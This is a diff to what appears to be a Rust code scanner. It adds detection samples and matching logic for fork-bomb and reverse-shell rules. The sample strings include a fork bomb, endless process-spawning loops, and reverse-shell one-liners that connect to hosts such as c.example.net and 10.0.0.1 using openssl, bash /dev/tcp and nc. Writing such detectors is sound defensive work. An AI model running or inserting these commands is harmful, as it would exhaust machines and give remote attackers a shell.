@@ -54,6 +54,7 @@ pub static FORK: Rule = Rule {
     why: "processes that make processes without an end stop the machine",
     remedy: "start a fixed number of workers",
     finds: &[
+        ("x.py", "import multiprocessing\ndef more():\n    multiprocessing.Process(target=more).start()\n"),
         ("x.sh", ":(){ :|:& };:"),
         ("x.py", "import os\nwhile True:\n    os.fork()\n"),
         ("x.js", "const cluster = require('cluster'); while (true) cluster.fork();"),
@@ -69,6 +70,7 @@ pub static REVERSE_SHELL: Rule = Rule {
     why: "it gives somebody elsewhere a shell on this machine",
     remedy: "remove it",
     finds: &[
+        ("x.sh", "/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect c.example.net:443 > /tmp/s"),
         ("x.py", "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)"),
         ("x.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
         ("x.sh", "nc -e /bin/sh 10.0.0.1 4444"),
@@ -205,11 +207,16 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
         | "child_process.fork"
         | "child_process.spawn"
         | "child_process.exec"
+        | "threading.Thread"
+        | "_thread.start_new_thread"
         | "Worker"
         | "worker_threads.Worker"
             if call.endless =>
         {
             found.add(&FORK, line, "processes are started in a loop that nothing ends");
+        }
+        path if call.endless && call.method() == "submit" && path.contains("ProcessPoolExecutor()") => {
+            found.add(&FORK, line, "each process starts more of its kind");
         }
         _ => {}
     }
